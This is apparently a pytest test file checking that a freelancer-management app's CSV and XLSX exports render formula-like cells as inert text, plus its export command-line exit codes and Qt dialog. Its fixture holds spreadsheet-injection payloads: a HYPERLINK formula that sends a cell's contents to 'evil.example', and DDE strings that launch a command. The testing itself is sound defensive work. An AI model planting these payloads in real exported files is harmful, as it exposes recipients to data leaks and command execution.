"""Exports to CSV and XLSX: hostile cells made inert, accents readable by Excel, the command line's exit codes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pytestqt.qtbot import QtBot

from fms.cli.main import main
from fms.models import Freelancer
from fms.services.crm import ClientInput, create_client
from fms.services.data import ExportKind, export_table
from fms.storage.database import Database
from tests.conftest import Factory

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Élodie")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "headline": "+cmd|' /C calc'!A0",
    "location": "-2+3",
    "portage_company": "\t=1+1",
    "linkedin_url": "\r=1+1",
}
COLUMNS = {
    "First name": "first_name",
    "Last name": "last_name",
    "Headline": "headline",
    "Location": "location",
    "Umbrella company": "portage_company",
    "LinkedIn": "linkedin_url",
}


def hostile_freelancer(db: Database) -> int:
    with db.transaction() as session:
        freelancer = Freelancer(email="elodie@example.com", daily_rate_cents=65050, **HOSTILE)
        session.add(freelancer)
        session.flush()
        return freelancer.id


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def read_xlsx(path: Path) -> list[dict[str, object]]:
    sheet = load_workbook(path).active  # read_only mode drops the empty cells that end a row
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip([str(name) for name in rows[0]], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_cells_that_open_like_formulas_are_written_as_text(db: Database, tmp_path: Path, suffix: str) -> None:
    hostile_freelancer(db)
    target = tmp_path / f"freelancers.{suffix}"

    result = export_table(db, ExportKind.FREELANCERS, target)

    assert result.rows == 1
    row = (read_csv if suffix == "csv" else read_xlsx)(target)[0]
    written = {column: HOSTILE[field] for column, field in COLUMNS.items()}
    if suffix == "xlsx":  # XML reads a lone carriage return as a line feed
        written = {column: text.replace("\r", "\n") for column, text in written.items()}
    assert {column: row[column] for column in COLUMNS} == {column: "'" + text for column, text in written.items()}
    assert row["Email"] == "elodie@example.com"
    if suffix == "xlsx":
        from decimal import Decimal

        assert row["Daily rate"] == pytest.approx(Decimal("650.50"))
        cells = load_workbook(target).active
        assert cells is not None
        assert all(cell.data_type != "f" for line in cells.iter_rows() for cell in line)  # no formula at all
    else:
        assert row["Daily rate"] == "650.50"
        assert target.read_bytes().startswith(b"\xef\xbb\xbfId,")  # the BOM that makes Excel read UTF-8
        assert "Élodie" in target.read_text(encoding="utf-8-sig")


def test_missions_and_applications_carry_their_client_and_people(db: Database, make: Factory, tmp_path: Path) -> None:
    client_id = create_client(db, ClientInput(name="=Acme")).id
    mission_id = make.mission(client_id, title="Data lead", description="-refonte\n=SUM(A1)")
    freelancer_id = make.freelancer("Zoé", "Lefèvre")
    application_id = make.application(mission_id, freelancer_id)

    export_table(db, ExportKind.MISSIONS, tmp_path / "missions.xlsx")
    export_table(db, ExportKind.APPLICATIONS, tmp_path / "applications.csv")

    [mission] = read_xlsx(tmp_path / "missions.xlsx")
    assert (mission["Id"], mission["Client"], mission["Title"]) == (mission_id, "'=Acme", "Data lead")
    assert mission["Description"] == "'-refonte\n=SUM(A1)"
    [application] = read_csv(tmp_path / "applications.csv")
    assert application["Id"] == str(application_id)
    assert (application["First name"], application["Last name"]) == ("Zoé", "Lefèvre")
    assert (application["Mission"], application["Client"], application["Stage"]) == ("Data lead", "'=Acme", "sourced")


def database_arguments(db: Database) -> list[str]:
    if db.location.sqlite_path is not None:
        return ["--db", str(db.location.sqlite_path)]
    return ["--url", db.location.url]


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def test_the_export_subcommand_and_its_exit_codes(
    db: Database, make: Factory, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make.freelancer()
    make.freelancer()
    where = database_arguments(db)
    folder = tmp_path / "out"
    folder.mkdir()

    code, out, err = run(*where, "export", "freelancers", "--to", str(folder / "people.XLSX"))
    assert (code, err) == (0, "")
    assert "2 freelancers written" in out
    assert len(read_xlsx(folder / "people.XLSX")) == 2

    code, _, err = run(*where, "export", "missions", "--to", str(folder / "missions.pdf"))
    assert code == 1 and err.count("\n") == 1 and "missions.pdf" in err
    assert not (folder / "missions.pdf").exists()

    code, _, err = run(*where, "export", "freelancers", "--to", str(folder / "no" / "such" / "folder.csv"))
    assert code == 1 and err.startswith("vivier-admin: The export could not be written") and err.count("\n") == 1
    assert list(folder.iterdir()) == [folder / "people.XLSX"]  # no partial file left behind

    assert run(*where, "export", "clients", "--to", str(folder / "c.csv"))[0] == 2
    assert run(*where, "export", "freelancers")[0] == 2  # --to is required
    assert run("export", "--help")[0] == 0
    capsys.readouterr()


def test_file_export_writes_the_chosen_table(qtbot: QtBot, db: Database, make: Factory, tmp_path: Path) -> None:
    from PySide6.QtWidgets import QDialogButtonBox

    from fms.ui.data_export import ExportDialog

    make.application()
    dialog = ExportDialog(db)
    qtbot.addWidget(dialog)
    dialog.kind_box.setCurrentIndex(dialog.kind_box.findData("applications"))
    qtbot.keyClicks(dialog.path_edit, str(tmp_path / "applications.csv"))

    dialog.buttons.button(QDialogButtonBox.StandardButton.Save).click()

    assert dialog.result() == dialog.DialogCode.Accepted
    assert len(read_csv(tmp_path / "applications.csv")) == 1


def test_the_file_menu_opens_the_export_dialog(qtbot: QtBot, db: Database, tmp_path: Path) -> None:
    from PySide6.QtCore import QSettings, QTimer
    from PySide6.QtGui import QAction
    from PySide6.QtWidgets import QApplication

    from fms.ui.context import AppContext
    from fms.ui.main_window import MainWindow

    context = AppContext()
    window = MainWindow(context, QSettings(str(tmp_path / "s.ini"), QSettings.Format.IniFormat), "test.db")
    qtbot.addWidget(window)
    context.set_database(db)
    seen: list[str] = []

    def close_it() -> None:
        dialog = QApplication.activeModalWidget()
        seen.append(dialog.objectName() if dialog else "")
        if dialog:
            dialog.close()

    QTimer.singleShot(0, window, close_it)
    action = window.findChild(QAction, "exportDataAction")
    assert action is not None
    action.trigger()
    assert seen == ["exportDialog"]
